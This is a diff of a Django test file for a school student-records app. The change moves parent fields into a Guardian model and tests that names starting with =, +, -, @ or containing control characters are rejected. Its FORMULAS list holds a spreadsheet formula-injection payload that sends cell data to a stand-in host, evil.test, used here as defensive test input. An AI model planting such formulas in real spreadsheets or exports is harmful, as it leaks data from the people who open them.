@@ -1,12 +1,13 @@
-"""Names (student, parent, classroom) that no spreadsheet runs and every screen shows as typed."""
+"""Names (student, guardian, classroom) that no spreadsheet runs and every screen shows as typed."""
 
 import pytest
 from django.core.exceptions import ValidationError
 from django.utils import translation
 
-from students.forms import StudentForm
-from students.models import Classroom, Student
+from students.forms import GuardianForm, StudentForm
+from students.models import Classroom, Guardian, Student
 from students.validators import validate_name
+from tests.students.student_pages import student_data
 
 FORMULAS = [
     '==HYPERLINK("http://evil.test/?x="&A2,"klik")',
@@ -68,30 +69,46 @@ def test_the_messages_are_indonesian():
 
 
 def _data(classroom, **changes):
-    return {
-        "nis": "1234567890",
-        "full_name": "Aisyah Putri",
-        "classroom": classroom.pk,
-        "parent_name": "Ibu Siti",
-        "parent_phone": "0812-3456-7890",
-        **changes,
-    }
+    return {"nis": "1234567890", "full_name": "Aisyah Putri", "classroom": classroom.pk, **changes}
 
 
-@pytest.mark.parametrize("field", ["full_name", "parent_name"])
+def _guardian(**changes):
+    return {"relation": "ibu", "name": "Ibu Siti", "phone": "0812-3456-7890", **changes}
+
+
 @pytest.mark.parametrize("name", ["=1+1", "@Ibu", "Ibu\u200bSiti", "Ibu\nSiti"])
-def test_the_student_form_refuses_such_names(classroom, field, name):
-    form = StudentForm(data=_data(classroom, **{field: name}))
+def test_the_student_form_refuses_such_names(classroom, name):
+    form = StudentForm(data=_data(classroom, full_name=name))
 
     assert not form.is_valid()
-    assert form.has_error(field, code="formula_start") or form.has_error(
-        field, code="control_character"
+    assert form.has_error("full_name", code="formula_start") or form.has_error(
+        "full_name", code="control_character"
+    )
+
+
+@pytest.mark.parametrize("name", ["=1+1", "@Ibu", "Ibu\u200bSiti", "Ibu\nSiti"])
+def test_the_guardian_form_refuses_such_names(name):
+    form = GuardianForm(data=_guardian(name=name))
+
+    assert not form.is_valid()
+    assert form.has_error("name", code="formula_start") or form.has_error(
+        "name", code="control_character"
     )
 
 
 def test_the_student_admin_says_why_in_indonesian(admin_client, classroom):
     response = admin_client.post(
-        "/admin/students/student/add/", _data(classroom, full_name="-Aisyah")
+        "/admin/students/student/add/", student_data(classroom, full_name="-Aisyah")
+    )
+
+    assert response.status_code == 200
+    assert "Nama tidak boleh diawali =, +, -, @" in response.content.decode()
+    assert not Student.objects.exists()
+
+
+def test_the_student_admin_refuses_such_a_guardians_name(admin_client, classroom):
+    response = admin_client.post(
+        "/admin/students/student/add/", student_data(classroom, _guardian(name="=Ibu"))
     )
 
     assert response.status_code == 200
@@ -109,15 +126,18 @@ def test_the_classroom_admin_refuses_such_names(admin_client, db, name):
 
 
 def test_full_clean_applies_the_rule(classroom):
-    student = Student(nis="1", full_name="+Aisyah", classroom=classroom, parent_name="Ibu\tSiti")
+    student = Student(nis="1", full_name="+Aisyah", classroom=classroom)
+    guardian = Guardian(student=student, name="Ibu\tSiti", relation="ibu")
 
     with pytest.raises(ValidationError) as caught:
         student.full_clean()
+    assert set(caught.value.error_dict) == {"full_name"}
+    with pytest.raises(ValidationError) as caught:
+        guardian.full_clean(exclude=["student"])
+    assert set(caught.value.error_dict) == {"name"}
 
-    assert set(caught.value.error_dict) == {"full_name", "parent_name"}
 
-
-def test_an_empty_parent_name_is_still_allowed(classroom):
-    form = StudentForm(data=_data(classroom, parent_name=""))
+def test_an_empty_guardian_name_is_still_allowed(db):
+    form = GuardianForm(data=_guardian(name=""))
 
     assert form.is_valid(), form.errors
